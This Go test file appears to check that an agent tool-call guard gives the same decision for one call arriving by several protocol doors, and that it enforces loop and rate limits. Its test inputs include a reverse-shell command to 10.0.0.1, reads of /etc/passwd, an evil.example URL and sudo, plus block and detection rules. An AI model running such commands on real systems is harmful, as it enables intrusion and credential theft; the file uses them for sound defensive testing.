package reeve

import (
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"reeve.example/reeve/a2g"
	"reeve.example/reeve/act"
	"reeve.example/reeve/aos"
	"reeve.example/reeve/guard"
	"reeve.example/reeve/internal/content"
	"reeve.example/reeve/internal/rawjson"
	"reeve.example/reeve/ledger"
	"reeve.example/reeve/mcp/proxy"
	"reeve.example/reeve/policy"
	"reeve.example/reeve/store/sqlite"

	"github.com/google/go-cmp/cmp"
)

// outcome is what is compared of one call by two doors.
type outcome struct {
	Effect act.Effect
	Codes  []string
	Digest act.Digest
}

// doors are guards of one policy, each with a session of its own, that decide about
// calls as they come by each door.
type doors struct {
	*testing.T
	guard *guard.Guard
	last  *outcome
	n     int
}

func newDoors(t *testing.T, text string, score func(context.Context, string, []byte) (float64, []string, bool)) *doors {
	t.Helper()
	set, err := policy.Load(policy.File{Name: "p.yaml", Data: []byte(text)})
	if err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	store, err := sqlite.Open(t.TempDir(), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	log, err := ledger.Open(t.Context(), ledger.Config{Store: store, Origin: "test", Seed: make([]byte, 32)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { log.Close() })
	d := &doors{T: t}
	d.guard, err = guard.New(t.Context(), guard.Config{
		Log: log, Store: store, Policy: set, Score: score,
		Observe: func(a *act.Action, decision *act.Decision, _ time.Duration) {
			o := &outcome{Effect: decision.Effect, Digest: a.Digest}
			for _, r := range decision.Reasons {
				o.Codes = append(o.Codes, r.Code)
			}
			slices.Sort(o.Codes)
			d.last = o
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// names are the doors by which a tool is called.
var doorNames = []string{"aos", "aos mcp", "proxy", "a2g", "task"}

// call makes a call by a door, with ids that were not used before.
func (d *doors) call(door, tool, arguments string) outcome {
	d.Helper()
	d.n++
	d.last = nil
	frame := fmt.Sprintf(`"context":{"agent":{"name":"A","id":"did:aeon:a","instructions":"","version":"1","provider":{"name":"p","url":"u"}},
		"session":{"id":"s-%s"},"turnId":"t","stepId":"st-%d","timestamp":%q}`, door, d.n, time.Now().UTC().Format(time.RFC3339))
	message := fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, d.n, tool, arguments)
	var a *act.Action
	var err error
	switch door {
	case "aos":
		doc, _ := rawjson.Parse([]byte(arguments))
		var inputs []string
		for name, v := range doc.Root().Members() {
			inputs = append(inputs, fmt.Sprintf(`{"name":%s,"value":%s}`, rawjson.Quote(name), v.Raw()))
		}
		a, err = aos.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":1,"method":"steps/toolCallRequest","params":{%s,"toolCallRequest":{"executionId":"x-%d","toolId":%q,"inputs":[%s]}}}`,
			frame, d.n, tool, strings.Join(inputs, ",")))
	case "aos mcp":
		a, err = aos.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":1,"method":"protocols/MCP","params":{%s,"message":%s}}`, frame, message))
	case "proxy":
		local := &proxy.Local{Guard: d.guard, Principal: act.Anonymous}
		if _, err := local.Judge(d.Context(), &proxy.Question{Message: proxy.Text(message), Server: "srv", Session: "s-proxy", ID: fmt.Sprint(d.n)}); err != nil {
			d.Fatal(err)
		}
		return *d.last
	case "a2g":
		a, err = a2g.ActionOf(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":"1","method":"a2g/intent","params":{"agent_did":"did:aeon:a","intent_id":"i-%d","tool":%q,"arguments":%s,"context":{"session_id":"s"}}}`, d.n, tool, arguments))
	case "task": // as engine.startAction reads it
		doc, _ := rawjson.Parse([]byte(arguments))
		var texts content.Set
		a = &act.Action{Door: "flow", Kind: act.TaskStart, Resource: tool, Session: "s-task", Step: fmt.Sprint(d.n), ID: fmt.Sprint(d.n), Body: []byte(arguments),
			Holds: []string{"filesystem_scope", "blocked_domains", "blocked_patterns"}} // by its executor
		a.Arguments = texts.AddArguments(doc.Root(), "")
		texts.Complete(a, content.AppendArguments(nil, doc.Root()))
	}
	if err != nil {
		d.Fatal(err)
	}
	a.Principal = act.Anonymous
	if _, _, err := d.guard.Decide(d.Context(), a); err != nil {
		d.Fatal(err)
	}
	return *d.last
}

// TestDoors: one call is one act under one law, by whichever door it comes: generated
// calls under generated policies have one effect, one list of reasons and one digest.
func TestDoors(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	pick := func(list ...string) string { return list[r.IntN(len(list))] }
	tools := []string{"deploy_app", "run_shell", "write_file", "http_request", "Ｗｉｐｅ", "read file"}
	for range 12 {
		var b strings.Builder
		fmt.Fprintf(&b, "version: 1\ndefault: %s\nrules:\n  - {name: base, on: trigger, effect: deny}\n", pick("allow", "deny", "escalate"))
		for i := range 1 + r.IntN(4) {
			fmt.Fprintf(&b, "  - {name: r%d, on: call, effect: %s, code: c%d", i, pick("allow", "deny", "escalate"), i)
			switch r.IntN(5) {
			case 0:
				fmt.Fprintf(&b, ", tools: [%q]", pick("*deploy*", "run_*", "wipe", "*file*"))
			case 1:
				fmt.Fprintf(&b, ", hazard: %s", pick("0.3", "0.5", "0.8"))
			case 2:
				b.WriteString(`, when: 'has(args.path) && args.path == "/etc/passwd"'`)
			case 3:
				b.WriteString(", detect: [secret, pii.card]")
			case 4:
				b.WriteString(", check: [model.absent, tool.confusable]")
			}
			b.WriteString("}\n")
		}
		if r.IntN(2) == 0 {
			b.WriteString("manifests: {write_file: {filesystem_scope: [/tmp/**]}, http_request: {blocked_domains: [evil.example]}, run_shell: {blocked_patterns: [sudo]}}\n")
		}
		text := b.String()
		score := func(context.Context, string, []byte) (float64, []string, bool) { return 0.5, []string{"x"}, true }
		if r.IntN(3) == 0 {
			score = func(context.Context, string, []byte) (float64, []string, bool) { return 0.95, nil, true }
		}
		d := newDoors(t, text, score)
		for range 10 {
			tool := tools[r.IntN(len(tools))]
			arguments := pick(`{}`, `{"command":"ls"}`, `{"command":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}`, `{"path":"/etc/passwd","n":1.50}`,
				`{"path":"/tmp/x","content":"card 4000 0000 0000 0002"}`, `{"url":"https://evil.example/x"}`, `{"command":"sudo id","deep":{"a":[1,{"b":"\u0061"}]}}`)
			want := d.call(doorNames[0], tool, arguments)
			for _, door := range doorNames[1:] {
				if door == "task" && slices.Contains(want.Codes, policy.CodeUnenforced) {
					continue // what nobody holds elsewhere, its executor does
				}
				if diff := cmp.Diff(want, d.call(door, tool, arguments)); diff != "" {
					t.Errorf("%s %s by %s (-aos +it):\n%s\n%s", tool, arguments, door, diff, text)
				}
			}
		}
	}
}

// TestDoorsRemember: loops, rates and taint count by every door. The tasks of a
// workflow are planned, and are no loop.
func TestDoorsRemember(t *testing.T) {
	for _, door := range doorNames {
		d := newDoors(t, "version: 1\ndefault: allow\nrules: [{name: loop, check: call.loop, effect: deny}, {name: many, on: call, when: 'session.calls >= 15', effect: deny, code: many}]\n", nil)
		loop, many := 0, 0
		for i := range 20 {
			o := d.call(door, "deploy_app", `{"x":1}`)
			if slices.Contains(o.Codes, "call.loop") && loop == 0 {
				loop = i + 1
			}
		}
		for i := range 20 {
			o := d.call(door, "deploy_app", fmt.Sprintf(`{"x":%d}`, 100+i))
			if slices.Contains(o.Codes, "many") && many == 0 {
				many = i + 1
			}
		}
		wantLoop, wantMany := 10, 7 // after nine that were let through
		if door == "task" {
			wantLoop, wantMany = 0, 1
		}
		if loop != wantLoop || many != wantMany {
			t.Errorf("%s: a loop at call %d, want %d; too many at %d, want %d", door, loop, wantLoop, many, wantMany)
		}
	}
}
